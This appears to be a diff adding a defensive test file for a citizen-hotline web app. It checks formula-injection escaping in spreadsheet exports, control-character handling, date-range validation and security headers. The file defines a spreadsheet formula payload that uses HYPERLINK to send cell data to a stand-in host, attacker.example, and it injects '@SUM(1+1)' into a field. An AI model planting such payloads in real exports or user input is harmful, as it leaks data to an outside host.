@@ -1,0 +1,114 @@
+"""Hostile input, each with the request that once broke something: formula injection in the
+ledger export, control characters in citizens' text (refused at the door, and cleaned from
+every XML and .xlsx output when one is already stored)."""
+
+from __future__ import annotations
+
+import io
+from xml.etree import ElementTree
+
+from openpyxl import load_workbook
+
+from hotline.appeals.models import Appeal
+from hotline.core.db import write_transaction
+from hotline.core.extensions import db
+from hotline.open311 import clients
+from tests.test_ledger import CAMPAIGN
+from tests.test_reports import REPORT
+
+FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")'
+
+
+def _exported_rows(api, numbers: list[str]) -> list[tuple]:
+    campaign = api.post("/api/v1/ledgers", "supervisor", json=CAMPAIGN | {"owner": "@SUM(1+1)"}, expect=201)
+    campaign_id = campaign.get_json()["id"]
+    api.post(f"/api/v1/ledgers/{campaign_id}/enroll", "supervisor", json={"numbers": numbers}, expect=200)
+    resp = api.request("GET", f"/api/v1/ledgers/{campaign_id}/export.xlsx", "supervisor", expect=200)
+    book = load_workbook(io.BytesIO(resp.data))
+    return [row for sheet in book.worksheets for row in sheet.iter_rows()]
+
+
+def test_a_citizens_formula_stays_text_in_the_ledger_export(api):
+    """A 随手拍 title (or a campaign's owner) a spreadsheet would run as a formula is
+    written as text: it opens showing what the citizen typed, and runs nothing."""
+    report = api.post("/api/v1/reports", None, json=REPORT | {"title": FORMULA}, expect=201).get_json()
+    rows = _exported_rows(api, [report["number"]])
+    cells = [cell for row in rows for cell in row if isinstance(cell.value, str)]
+    assert all(cell.data_type != "f" for cell in cells)
+    assert f"'{FORMULA}" in [c.value for c in cells] and "'@SUM(1+1)" in [c.value for c in cells]
+
+
+def test_control_characters_are_refused_at_intake(api):
+    """A vertical tab in a title used to make the ledger export fail and the Open311 XML
+    feed malformed; no person types one, so it is refused with the field named."""
+    error = api.post("/api/v1/reports", None, json=REPORT | {"title": "路灯\x0b不亮"}, expect=400).get_json()
+    assert error["error"]["fields"] == {"title": "不能含有控制字符（如空字符、垂直制表符）"}
+    staff = api.post("/api/v1/appeals", "operator", json={"title": "a", "content": "噪音\x1b扰民"}, expect=400)
+    assert "content" in staff.get_json()["error"]["fields"]
+    with api.app.app_context():
+        clients.add_client("测试客户端", "security-test-key")
+    open311 = api.app.test_client().post(
+        "/open311/v2/requests.json",
+        data={"api_key": "security-test-key", "service_code": "040201", "lat": "41.88", "long": "123.32",
+              "description": "路灯\x0b不亮"},
+    )  # fmt: skip
+    assert open311.status_code == 400 and open311.get_json()[0]["description"].startswith("description")
+
+
+def test_a_stored_control_character_breaks_no_export_or_feed(api):
+    """Text stored before the check (or by an import) is cleaned on the way out: the .xlsx
+    opens and the public Open311 XML feed parses."""
+    report = api.post("/api/v1/reports", None, json=REPORT | {"title": "路灯不亮"}, expect=201).get_json()
+    with api.app.app_context(), write_transaction(db.session):
+        appeal = db.session.scalars(db.select(Appeal).where(Appeal.number == report["number"])).one()
+        # (PostgreSQL refuses NUL itself; these two it stores.)
+        appeal.title, appeal.content = "路灯\x0b不亮", "整条街\x1f都黑了\x1b"
+    rows = _exported_rows(api, [report["number"]])
+    assert "路灯不亮" in [cell.value for row in rows for cell in row]
+    feed = api.app.test_client().get("/open311/v2/requests.xml")
+    assert feed.status_code == 200
+    descriptions = [e.text for e in ElementTree.fromstring(feed.data).iter("description")]
+    assert "整条街都黑了" in descriptions
+
+
+def test_dates_out_of_any_sane_range_are_400_not_500(api):
+    """Dates at the ends of the calendar overflowed date arithmetic and answered 500."""
+    for query, field in (
+        ({"received_to": "9999-12-31"}, "received_to"),
+        ({"received_from": "0001-01-01"}, "received_from"),
+    ):
+        error = api.get("/api/v1/appeals", "dispatcher", query=query, expect=400).get_json()["error"]
+        assert field in error["fields"]
+    due = {"start": "9999-12-31T00:00:00+08:00", "working_days": "365"}
+    assert "start" in api.get("/api/v1/calendar/due", "dispatcher", query=due, expect=400).get_json()["error"]["fields"]
+    metrics = api.get("/api/v1/metrics", "supervisor", query={"start": "0001-01-01"}, expect=400).get_json()
+    assert "start" in metrics["error"]["fields"]
+
+
+def test_every_response_carries_the_security_headers(sqlite_app):
+    """Pages, the API, static files and errors: only the app's own scripts run, no page can
+    be framed, types are not sniffed, URLs do not leak, and no server version is named."""
+    client = sqlite_app.test_client()
+    for path in ("/login", "/api/v1/openapi.json", "/static/style.css", "/no-such-page", "/report"):
+        headers = client.get(path).headers
+        csp = headers["Content-Security-Policy"]
+        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp, path
+        assert headers["X-Frame-Options"] == "DENY" and headers["X-Content-Type-Options"] == "nosniff", path
+        assert headers["Referrer-Policy"] == "same-origin" and headers["Server"] == "hotline", path
+
+
+def test_no_template_has_inline_script_handler_or_style():
+    """What the policy would block: inline <script> code, on… handlers, style attributes.
+    (A <script type="application/json"> data block is not run, and is allowed.)"""
+    import re
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parent.parent / "hotline"
+    offending = []
+    for template in root.rglob("templates/**/*.html"):
+        html = template.read_text(encoding="utf-8")
+        for tag in re.findall(r"<script\b[^>]*>", html):
+            if "src=" not in tag and 'type="application/json"' not in tag:
+                offending.append(f"{template.name}: {tag}")
+        offending += [f"{template.name}: {m}" for m in re.findall(r"\s(on[a-z]+=|style=)", html)]
+    assert offending == []
